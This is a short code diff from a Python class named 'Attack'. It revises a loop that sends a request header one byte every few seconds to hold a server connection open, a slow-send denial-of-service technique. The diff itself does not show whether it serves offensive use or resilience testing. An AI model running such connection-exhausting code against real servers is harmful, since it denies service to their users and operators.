@@ -276,8 +276,12 @@ class Attack:
         try:
             await loop.sock_sendall(sock, head[:10])
             rest = iter(head[10:] + b"a" * 10_000)
-            while not reader.done() and time.time() < self.deadline:
-                await asyncio.sleep(random.uniform(3, 7))  # noqa: S311 -- pacing, not secrets
+            while time.time() < self.deadline:
+                # The next byte in 3 to 7 s, unless the server answers or closes before.
+                pause = random.uniform(3, 7)  # noqa: S311 -- pacing, not secrets
+                await asyncio.wait([reader], timeout=min(pause, self.deadline - time.time()))
+                if reader.done() or time.time() >= self.deadline:
+                    break
                 await loop.sock_sendall(sock, bytes([next(rest)]))
         except OSError:
             pass
